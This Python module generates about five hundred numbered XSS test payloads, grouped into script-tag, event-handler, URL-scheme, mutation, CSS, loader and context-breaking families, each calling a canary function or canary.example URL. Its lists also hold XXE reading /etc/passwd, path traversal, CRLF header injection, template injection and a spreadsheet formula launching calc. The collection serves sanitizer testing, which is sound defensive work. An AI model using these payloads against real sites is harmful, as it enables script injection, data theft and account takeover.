"""Five hundred ways to have a partner's page run what an editor's text holds, by family.

Each calls ``__hit(N)`` with a number of its own, or fetches ``https://canary.example/N``; a page that
defines the first and watches the second knows who came through.
"""

from base64 import b64encode
from collections.abc import Iterator
from html import escape
from typing import NamedTuple


CANARY = "https://canary.example"


class Payload(NamedTuple):
    """``swallows``: what follows it in the same text may become part of it."""

    number: int
    family: str
    text: str
    swallows: bool = False


TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe", "object data=x",
    "marquee", "a href=#", "div", "table", "select autofocus", "form", "button autofocus", "math", "textarea autofocus",
    "image src=x", "embed src=x", "keygen autofocus", "style", "link rel=stylesheet href=x", "frameset", "p", "h2", "td",
    "li", "x tabindex=1 autofocus", "custom-tag", "source", "track", "isindex", "bgsound src=x", "body background=x",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart", "onclick", "onstart", "onscroll",
)  # fmt: skip
URL_ATTRIBUTES = (
    "a href", "area href", "img src", "img srcset", "img longdesc", "img dynsrc", "img lowsrc", "iframe src", "form action",
    "button formaction", "object data", "embed src", "video poster", "video src", "audio src", "body background",
    "table background", "td background", "blockquote cite", "q cite", "a ping", "link href", "base href", "svg xlink:href",
    "input type=image src", "track src", "source src", "applet code", "frame src", "html manifest", "use xlink:href",
    "image xlink:href", "animate xlink:href", "math href", "del cite", "script src",
)  # fmt: skip
SCHEMES = (
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", " javascript:{js}", "\x01javascript:{js}",
    "&#106;avascript:{js}", "&#x6A&#x61&#x76&#x61script:{js}", "javascript&colon;{js}", "java&Tab;script&colon;{js}",
    "vbscript:{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,{b64}", "data:image/svg+xml;base64,{svg}",
    "javascript://x%0a{js}", "feed:javascript:{js}", "jar:javascript:{js}", "blob:{js}", "livescript:{js}",
    "\u200bjavascript:{js}", "javascript\x00:{js}", "ｊavascript:{js}", "view-source:javascript:{js}",
)  # fmt: skip
SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<script >{js}</script >", "<script/x>{js}</script>",
    "<script\n>{js}</script\n>", "<script type=module>{js}</script>", "<script src={canary}></script>",
    "<script src=//canary.example/{n}></script>", "<script src=data:,{js}></script>", "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>{js}//<</script>", "<script>{js}", "<script src={canary}", "<svg><script>{js}</script></svg>",
    "<svg><script xlink:href=data:,{js} /></svg>", "<math><script>{js}</script></math>", "<noscript><script>{js}</script></noscript>",
    "<scri\x00pt>{js}</scri\x00pt>", "<script\x0c>{js}</script>", "<!--><script>{js}</script>-->", "<!-- --!><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>", "<?php <script>{js}</script> ?>", "<?xml-stylesheet href='javascript:{js}'?>",
    "&lt;script&gt;{js}&lt;/script&gt;", "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;", "\\u003cscript\\u003e{js}",
    "%3Cscript%3E{js}%3C/script%3E", "+ADw-script+AD4-{js}+ADw-/script+AD4-", "¼script¾{js}¼/script¾",
    "<script>eval(atob('{raw}'))</script>", "<script charset=utf-7>{js}</script>", "<isindex type=image src=1 onerror={js}>",
)  # fmt: skip
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>', '<template><img src=x onerror={js}></template>',
    '<template><style></template><img src=x onerror={js}></style>', '<style><img src="</style><img src=x onerror={js}//">',
    '<svg></p><style><a id="</style><img src=x onerror={js}>"></svg>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
    '<svg><desc><img src=x onerror={js}></desc></svg>', '<svg><foreignObject><iframe srcdoc="<script>{js}</script>"></foreignObject></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}></style></mglyph></form>',
    '<textarea><img title="</textarea><img src=x onerror={js}>"></textarea>', '<title><img title="</title><img src=x onerror={js}>"></title>',
    '<xmp><p title="</xmp><svg onload={js}>"></xmp>', '<noembed><p title="</noembed><svg onload={js}>"></noembed>',
    '<noframes><p title="</noframes><svg onload={js}>"></noframes>', '<iframe><p title="</iframe><svg onload={js}>"></iframe>',
    '<table><svg onload={js}></table>', '<select><template><img src=x onerror={js}></template></select>',
    '<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>', '<svg><title><![CDATA[</title><img src=x onerror={js}>]]></svg>',
    '<p id="a" title="`><img src=x onerror={js}>">', '<img title="--><svg onload={js}>">', '<div title="]]><svg onload={js}>">',
    '<a title="&quot;&gt;&lt;svg onload={js}&gt;">x</a>', '<a title=\'"><svg onload={js}>\'>x</a>', '<b><a><b><table><td></b></a><svg onload={js}>',
    '<svg><animate onbegin={js} attributeName=x dur=1s></svg>', '<svg><set attributeName=href to=javascript:{js}><a id=x>x</a></set></svg>',
    '<svg><a><animate attributeName=href values=javascript:{js} /><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml;base64,{svg}#x"/></svg>',
    '<math href="javascript:{js}">x</math>', '<math><maction actiontype="statusline#{canary}" xlink:href="javascript:{js}">x</maction></math>',
    '<object><param name=movie value="javascript:{js}"></object>', '<iframe srcdoc="&lt;script&gt;{js}&lt;/script&gt;"></iframe>',
    '<iframe srcdoc=\'<svg onload={js}>\'>', '<embed src="data:image/svg+xml;base64,{svg}">', '<object data="data:text/html;base64,{b64}"></object>',
    '<img src=x:x onerror\n=\n{js}>', '<img/src=x/onerror={js}>', '<img src=x onerror={js}//', '<img """><svg onload={js}>">', "<img src='x' onerror=\x0c{js}>",
    '<svg\x00onload={js}>', '<img src=x onerror&#61;{js}>', '<details open ontoggle={js}><summary>x</summary></details>', '<dialog open onclose={js}>x</dialog>',
    '<a href="https://example.org/" onmouseover="{js}">x</a>', '<h2><img src=x onerror={js}></h2>', '<li><p><ul><svg/onload={js}>',
    '<popover popover onbeforetoggle={js}>', '<input type=hidden oncontentvisibilityautostatechange={js} style=content-visibility:auto>',
)  # fmt: skip
STYLES = (
    '<p style="width:expression({js})">x</p>', '<p style="background:url(javascript:{js})">x</p>', '<p style="background:url({canary})">x</p>',
    '<p style="-moz-binding:url({canary})">x</p>', '<p style="behavior:url({canary})">x</p>', "<style>@import '{canary}';</style>",
    '<style>*{background:url({canary})}</style>', '<link rel=stylesheet href={canary}>', '<link rel=prefetch href={canary}>',
    '<link rel=import href={canary}>', '<p style="x:\\65xpression({js})">x</p>', '<div style="position:fixed;inset:0">x</div>',
    '<style>@font-face{src:url({canary})}</style>', '<p style="list-style:url({canary})">x</p>', '<font style="animation-name:x" onanimationend={js}>x</font>',
)  # fmt: skip
LOADERS = (
    '<meta http-equiv=refresh content="0;url={canary}">', '<meta http-equiv=refresh content="0;url=javascript:{js}">', '<base href={canary}>',
    '<iframe src={canary}></iframe>', '<object data={canary}></object>', '<embed src={canary}>', '<applet codebase={canary} code=x></applet>',
    '<frameset><frame src={canary}></frameset>', '<form action={canary}><input name=q autofocus><button>x</button></form>',
    '<video src={canary}></video>', '<audio src={canary} autoplay></audio>', '<video poster={canary}></video>', '<table background={canary}><td>x</table>',
    '<body background={canary}>', '<input type=image src={canary}>', '<svg><image href={canary} /></svg>', '<svg><use href="{canary}#x" /></svg>',
    '<img srcset="{canary} 2x">', '<picture><source srcset={canary}><img></picture>', '<portal src={canary}></portal>', '<bgsound src={canary}>',
    '<script type=importmap>{"imports":{"x":"{canary}"}}</script>', '<a ping={canary} href=#>x</a>', '<html manifest={canary}>', '<xss id=x style="background:url({canary})">',
)  # fmt: skip
BREAKERS = (
    "]]><svg onload={js}>", "]]>", "--><svg onload={js}>", "--!><svg onload={js}>", "</script><script>{js}</script>", "</SCRIPT ><svg onload={js}>",
    "</title><svg onload={js}>", "</textarea><svg onload={js}>", "</style><svg onload={js}>", '"><svg onload={js}>', "'><svg onload={js}>",
    '" onmouseover="{js}', "' autofocus onfocus='{js}", "`onload={js}", "</template><svg onload={js}>", "</iframe><svg onload={js}>", "</noscript><svg onload={js}>",
    "</item></channel></rss><svg onload={js}>", "</entry><entry>", "</content></entry></feed>", "</metadata></record></ListRecords>", "</dc:title><dc:title>",
    "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<!ENTITY x '{js}'>&x;", "&xxe;", "&unknown;", "&#0;", "&#x0;", "&#1;",
    "&#xFFFE;", "&#xD800;", "&#x110000;", "&#57344;", "&#xE001;h|themes|tourisme&#xE002;", "\ue000/evil", "\ue001h|themes|tourisme\ue002", "\x00", "a\x00b", "\x01\x08\x0b\x0c\x0e\x1f\x7f",
    "\x80\x85\x9f", "\ufffe\uffff", "\U0001fffe", "\u2028{js}\u2029", "\u202e\u202d\u2066gnp.exe", "\ufeff", "e\u0301" * 50, "\\u003c/script>", "\\", "\\\"};{js}//", "';{js}//",
    "\"};{js};x={\"", "{{constructor.constructor('{js}')()}}", "${{js}}", "<%= {js} %>", "#{{js}}", "{% {js} %}", "%0d%0aX-Evil: 1", "\r\nX-Evil: 1\r\n\r\n<svg onload={js}>",
    "file:///etc/passwd", "../../../../etc/passwd", "=cmd|' /C calc'!A0", "@SUM(1)", "javascript:{js}", "<prai-liste onload={js}>", "<slot onslotchange={js}></slot>",
    "<", ">", "&", "<>", "</", "<!", "<!--", "<?", "<a", "<a href=", '<a href="', "<a href='", "<p title=`", "&lt", "&#", "&#x", "<plaintext>{js}", "<textarea>", "<style>", "<title>", "<xmp>",
    "<!-- x", "<script>", "<noscript>", "<table><tr><td><svg onload={js}>", "<x " + "a" * 20_000 + ">", "<b>" * 400, "<table>" * 60, "A" * 30_000,
)  # fmt: skip
#: Elements whose text, or whose whole inside, is no content until they end.
_RAW = ("style", "title", "xmp", "script", "noscript", "textarea", "iframe", "template", "noframes", "noembed", "plaintext",
        "svg", "math", "select", "object", "audio", "video", "frameset", "applet", "button")  # fmt: skip


def payloads() -> list[Payload]:
    """All of them, in the same order each time."""
    return [_numbered(number, family, text) for number, (family, text) in enumerate(_templates())]


def _templates() -> Iterator[tuple[str, str]]:
    for text in SCRIPTS:
        yield "script", text
    for place, tag in enumerate(TAGS):
        for turn in range(4):
            handler = HANDLERS[(place + 2 * turn) % len(HANDLERS)]
            quote = ('"', "'", "", "`")[turn]
            yield "handler", f"<{tag} {handler}={quote}{{js}}{quote}>x"
    for place, attribute in enumerate(URL_ATTRIBUTES):
        tag = attribute.split()[0]
        for turn in range(5):
            scheme = SCHEMES[(5 * place + turn) % len(SCHEMES)]
            yield "address", f'<{attribute}="{scheme}">x</{tag}>'
    for scheme in SCHEMES:
        yield "address", f'<a href="{scheme}">x</a>'
    for family, texts in (
        ("mutation", MUTATIONS),
        ("style", STYLES),
        ("loader", LOADERS),
        ("breaker", BREAKERS),
    ):
        for text in texts:
            yield family, text


def _numbered(number: int, family: str, text: str) -> Payload:
    js = f"__hit({number})"
    page, svg = f"<script>{js}</script>", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'
    words = {"js": js, "n": number, "canary": f"{CANARY}/{number}"}
    words |= {
        name: b64encode(value.encode()).decode() for name, value in (("b64", page), ("svg", svg), ("raw", js))
    }
    filled = text
    for name, word in words.items():
        filled = filled.replace(f"{{{name}}}", str(word))
    return Payload(number, family, filled, _swallows(filled))


def _swallows(text: str) -> bool:
    """Whether it ends inside a tag, a comment or an element that holds raw text."""
    low = text.lower()
    if (
        low.rfind("<") > low.rfind(">")
        or low.count('"') % 2
        or low.count("'") % 2
        or "`" in low
        or "<!--" in low
    ):
        return True
    return any(low.count(f"<{tag}") > low.count(f"</{tag}") for tag in _RAW)


def in_attribute(payload: Payload) -> str:
    """The payload as the value of an attribute in double quotes."""
    return escape(payload.text)
